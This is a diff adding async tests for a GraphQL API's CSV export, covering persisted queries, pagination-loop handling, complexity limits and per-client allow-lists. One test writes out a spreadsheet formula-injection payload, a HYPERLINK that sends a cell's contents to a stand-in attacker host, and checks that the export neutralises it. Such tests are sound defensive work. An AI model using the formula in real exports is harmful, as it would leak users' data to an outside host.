@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import shutil
@@ -202,3 +203,74 @@ async def test_ten_thousand_rows_stream_at_flat_memory(
     # About 6 MB: a page at a time, and the 1 MB file the in-process client keeps. Holding
     # every page's answer until the end would be 13 MB.
     assert peak < 8_000_000
+
+
+async def _registered(client: httpx.AsyncClient, query: str, token: str) -> str:
+    """`query` registered as an automatically persisted query; its hash."""
+    digest = hashlib.sha256(query.encode()).hexdigest()
+    extensions = {"persistedQuery": {"version": 1, "sha256Hash": digest}}
+    await client.post(
+        "/graphql",
+        json={"query": query, "extensions": extensions},
+        headers={"Authorization": f"Bearer {token}"},
+    )
+    return digest
+
+
+async def test_text_a_spreadsheet_would_run_is_written_inert(
+    sqlite_client: httpx.AsyncClient, make_token: MakeToken
+) -> None:
+    manager = make_token()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for name in (formula, "+1 (555) 0100", "@SUM(A1)", "-2+3"):
+        await gql(
+            sqlite_client,
+            'mutation ($n: String!) { createCampaign(input: {name: $n, brand: "b"}) { id } }',
+            token=manager,
+            variables={"n": name},
+        )
+    query = "query Names { campaigns(first: 100) { edges { node { name } } } }"
+    digest = await _registered(sqlite_client, query, manager)
+    response = await _export(sqlite_client, f"{digest}.csv", manager)
+    names = [row["name"] for row in rows(response)]
+    assert f"'{formula}" in names and "'+1 (555) 0100" in names and "'@SUM(A1)" in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
+async def test_an_export_whose_cursor_does_not_move_ends_with_a_line_that_says_so(
+    sqlite_client: httpx.AsyncClient, make_token: MakeToken
+) -> None:
+    manager = make_token()
+    query = (
+        'query Loop($after: ID = "inf_x") { influencers(first: 1) { edges { node { id } } '
+        "pageInfo { hasNextPage endCursor } } other: influencer(id: $after) { id } }"
+    )
+    digest = await _registered(sqlite_client, query, manager)
+    response = await _export(sqlite_client, f"{digest}.csv", manager)
+    lines = response.text.splitlines()
+    assert len(lines) == 4  # the header, the page, the same page once more, and the end
+    assert lines[1] == lines[2]
+    assert lines[-1].startswith("# export stopped: BAD_REQUEST: The next page's cursor")
+
+
+async def test_an_export_of_a_document_over_the_callers_limits_is_refused_not_failed(
+    sqlite_client: httpx.AsyncClient, make_token: MakeToken
+) -> None:
+    analyst = make_token(roles=["analyst"])
+    query = "query Big { " + " ".join(f"a{i}: __typename" for i in range(1200)) + " }"
+    digest = await _registered(sqlite_client, query, analyst)  # within the analyst's limits
+    response = await _export(sqlite_client, f"{digest}.csv", make_token())
+    assert response.status_code == 400
+    assert codes(response.json()) == ["QUERY_TOO_COMPLEX"]
+
+
+async def test_a_client_of_registered_operations_only_exports_registered_ones(
+    sqlite_client: httpx.AsyncClient, make_token: MakeToken
+) -> None:
+    manager = make_token()
+    digest = await _registered(sqlite_client, "{ campaigns { edges { node { id } } } }", manager)
+    partner = make_token(client_id="partner-portal")
+    refused = await _export(sqlite_client, f"{digest}.csv", partner)
+    allowed = await _export(sqlite_client, "InfluencerContacts.csv", partner)
+    assert codes(refused.json()) == ["PERSISTED_QUERY_NOT_ALLOWED"]
+    assert allowed.status_code == 200 and len(rows(allowed)) > 100
